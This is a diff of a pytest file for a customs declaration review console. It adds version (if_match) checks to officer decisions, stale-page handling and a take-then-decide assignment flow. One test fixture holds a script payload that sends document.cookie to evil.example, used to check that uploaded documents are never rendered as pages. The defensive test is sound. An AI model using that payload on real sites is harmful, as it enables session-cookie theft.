@@ -5,6 +5,7 @@ from __future__ import annotations
 import copy
 import datetime as dt
 import re
+from html import unescape
 from typing import Any
 
 import pytest
@@ -35,6 +36,8 @@ class Console:
                 post_rate(session, currency=currency, day=day, vnd_per_unit=rate, source="t", actor="t")
         self.trader = keys.make("trader", ORG_A)
         self.officer = keys.make("officer")
+        # On duty: what the trader files is assigned to this officer, who alone (or a supervisor) decides it.
+        assert client.put("/api/v1/review/duty", json={"on_duty": True}, headers=self.officer).status_code == 200
         self.n = 0
 
     def file(self, body: dict[str, Any] | None = None) -> dict[str, Any]:
@@ -62,6 +65,12 @@ class Console:
         found = re.search(r'name="csrf" value="([0-9a-f]+)"', html)
         assert found, "no CSRF token in the page"
         return found.group(1)
+
+    def if_match(self, html: str) -> str:
+        """The version the page's decision form carries (what a browser posts back)."""
+        found = re.search(r'name="if_match" value="([^"]+)"', html)
+        assert found, "no version in the decision form"
+        return unescape(found.group(1))
 
     def api(self, decl_id: str) -> dict[str, Any]:
         got: dict[str, Any] = self.client.get(f"{BASE}/{decl_id}", headers=self.officer).json()
@@ -161,7 +170,12 @@ def test_officer_works_the_queue_and_decides(console):
 
     done = console.client.post(
         f"/console/declarations/{decl['id']}/decide",
-        data={"outcome": "clear", "reason": "phytosanitary certificate checked", "csrf": console.csrf(html)},
+        data={
+            "outcome": "clear",
+            "reason": "phytosanitary certificate checked",
+            "csrf": console.csrf(html),
+            "if_match": console.if_match(html),
+        },  # fmt: skip
         follow_redirects=False,
     )
     assert done.status_code == 303
@@ -181,14 +195,17 @@ def test_officer_works_the_queue_and_decides(console):
 def test_refused_decisions_show_the_api_reason(console):
     decl = console.file()
     console.sign_in()
-    token = console.csrf(console.page(f"/console/declarations/{decl['id']}").text)
+    html = console.page(f"/console/declarations/{decl['id']}").text
+    token, version = console.csrf(html), console.if_match(html)
     url = f"/console/declarations/{decl['id']}/decide"
-    no_reason = console.client.post(url, data={"outcome": "reject", "csrf": token})
+    no_reason = console.client.post(url, data={"outcome": "reject", "csrf": token, "if_match": version})
     assert no_reason.status_code == 422
     assert "reason" in no_reason.text.lower()
     assert console.api(decl["id"])["status"] == "submitted"
-    assert console.client.post(url, data={"outcome": "clear", "csrf": token}).status_code == 200
-    twice = console.client.post(url, data={"outcome": "inspect", "csrf": token})
+    assert console.client.post(url, data={"outcome": "clear", "csrf": token, "if_match": version}).status_code == 200
+    # A decision on the cleared version itself (not a stale page): the state refuses it.
+    now = console.api(decl["id"])["etag"]
+    twice = console.client.post(url, data={"outcome": "inspect", "csrf": token, "if_match": now})
     assert twice.status_code == 409
     alert = re.search(r'<div class="error" role="alert">(.*?)</div>', twice.text, re.S)
     assert alert, "the API's refusal is not shown"
@@ -211,11 +228,12 @@ def test_trader_text_is_escaped(console):
 def test_documents_are_downloads_never_pages(console):
     decl = console.file()
     console.sign_in()
-    token = console.csrf(console.page(f"/console/declarations/{decl['id']}").text)
+    html = console.page(f"/console/declarations/{decl['id']}").text
     asked = console.client.post(
         f"/console/declarations/{decl['id']}/decide",
-        data={"outcome": "request_documents", "reason": "phytosanitary certificate, please", "csrf": token},
-    )
+        data={"outcome": "request_documents", "reason": "phytosanitary certificate, please",
+              "csrf": console.csrf(html), "if_match": console.if_match(html)},
+    )  # fmt: skip
     assert asked.status_code == 200
     assert "Documents requested" in asked.text
     evil = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>"
@@ -368,6 +386,70 @@ def test_forms_posted_from_another_site_are_refused(console):
     assert forged.status_code == 403
     assert console.client.post("/console/logout", headers=cross, follow_redirects=False).status_code == 403
     assert console.api(decl["id"])["status"] == "submitted"
-    same = console.client.post(url, data={"outcome": "clear", "csrf": token}, headers={"Sec-Fetch-Site": "same-origin"})
+    version = console.if_match(console.page(f"/console/declarations/{decl['id']}").text)
+    same = console.client.post(url, data={"outcome": "clear", "csrf": token, "if_match": version},
+                               headers={"Sec-Fetch-Site": "same-origin"})  # fmt: skip
     assert same.status_code == 200
+    assert console.api(decl["id"])["status"] == "cleared"
+
+
+def test_a_decision_on_a_page_that_went_stale_asks_the_officer_to_review_again(console):
+    """The trader amends after the officer opened the page: the decision is refused, nothing changes, and the page
+    shows the declaration as it now is with a message to review it again."""
+    decl = console.file()
+    console.sign_in()
+    html = console.page(f"/console/declarations/{decl['id']}").text
+    assert console.if_match(html) == decl["etag"]
+    body = copy.deepcopy(console.body)
+    body["items"][0]["description"] = "Fresh lychees, in cartons (amended)"
+    amended = console.client.post(f"{BASE}/{decl['id']}/amend", json=body,
+                                  headers={**console.trader, "If-Match": decl["etag"]})  # fmt: skip
+    assert amended.status_code == 200, amended.text
+    stale = console.client.post(
+        f"/console/declarations/{decl['id']}/decide",
+        data={"outcome": "clear", "reason": "looked fine", "csrf": console.csrf(html), "if_match": decl["etag"]},
+    )
+    assert stale.status_code == 412
+    alert = re.search(r'<div class="error" role="alert">(.*?)</div>', stale.text, re.S)
+    assert alert
+    assert "changed since you opened it" in alert.group(1)
+    assert "(amended)" in stale.text  # the page now shows the amended body
+    assert 'value="clear" required checked' not in stale.text  # the officer chooses again
+    after = console.api(decl["id"])
+    assert after["status"] == amended.json()["status"]
+    assert after["etag"] == amended.headers["ETag"]
+    no_tag = console.client.post(
+        f"/console/declarations/{decl['id']}/decide", data={"outcome": "clear", "csrf": console.csrf(html)}
+    )
+    assert no_tag.status_code == 428
+    assert "changed since you opened it" in no_tag.text
+
+
+def test_an_unassigned_declaration_is_taken_then_decided(console):
+    off = console.client.put("/api/v1/review/duty", json={"on_duty": False}, headers=console.officer)
+    assert off.status_code == 200
+    decl = console.file()
+    assert console.api(decl["id"])["assigned_officer"] is None
+    console.sign_in()
+    page = console.page(f"/console/declarations/{decl['id']}").text
+    assert "Take this declaration" in page
+    refused = console.client.post(
+        f"/console/declarations/{decl['id']}/decide",
+        data={"outcome": "clear", "csrf": console.csrf(page), "if_match": decl["etag"]},
+    )
+    assert refused.status_code == 403
+    assert "take it first" in refused.text
+    taken = console.client.post(
+        f"/console/declarations/{decl['id']}/take", data={"csrf": console.csrf(page)}, follow_redirects=False
+    )
+    assert taken.status_code == 303
+    shown = console.page(taken.headers["location"]).text
+    assert "yours to decide" in shown
+    assert "Take this declaration" not in shown
+    done = console.client.post(
+        f"/console/declarations/{decl['id']}/decide",
+        data={"outcome": "clear", "csrf": console.csrf(shown), "if_match": console.if_match(shown)},
+        follow_redirects=False,
+    )
+    assert done.status_code == 303
     assert console.api(decl["id"])["status"] == "cleared"
